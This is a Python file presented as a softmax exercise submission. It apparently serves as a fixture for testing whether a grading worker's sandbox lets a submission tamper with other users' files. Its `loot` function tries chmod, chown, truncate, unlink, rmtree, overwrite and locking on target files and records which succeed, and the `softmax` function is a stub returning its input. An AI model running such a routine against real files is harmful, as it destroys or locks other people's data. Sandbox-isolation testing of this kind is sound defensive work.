# flashdojo: exercise=s1-softmax stage=s1
"""Does to other people's files what needs no right to open them: modes, owners, times, attributes, lengths, leases."""
import fcntl
import os
import shutil


def loot(bait):
    found = []
    for path in (*bait["files"], *map(os.path.dirname, bait["files"])):
        for how, action in (
            ("chmod", lambda: os.chmod(path, 0)), ("chown", lambda: os.chown(path, os.getuid(), os.getgid())), ("utime", lambda: os.utime(path, (1, 1))),
            ("setxattr", lambda: os.setxattr(path, "user.mine", b"1")), ("removexattr", lambda: os.removexattr(path, "user.theirs")), ("truncate", lambda: os.truncate(path, 0)),
            ("rename", lambda: os.rename(path, path + "~")), ("unlink", lambda: os.unlink(path)), ("rmdir", lambda: shutil.rmtree(path)), ("replace", lambda: os.replace(__file__, path)),
            ("lease", lambda: fcntl.fcntl(os.open(path, os.O_RDONLY), 1024, fcntl.F_WRLCK)), ("lock", lambda: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)),
        ):
            try:
                action()
                found.append(f"{how} {path}")
            except OSError:
                pass
            except NameError:
                pass
    return found


loot({"files": [os.path.abspath("no such file")]})  # tried on real ones in tests/worker/test_escapes.py


def softmax(x, dim=-1):
    return x
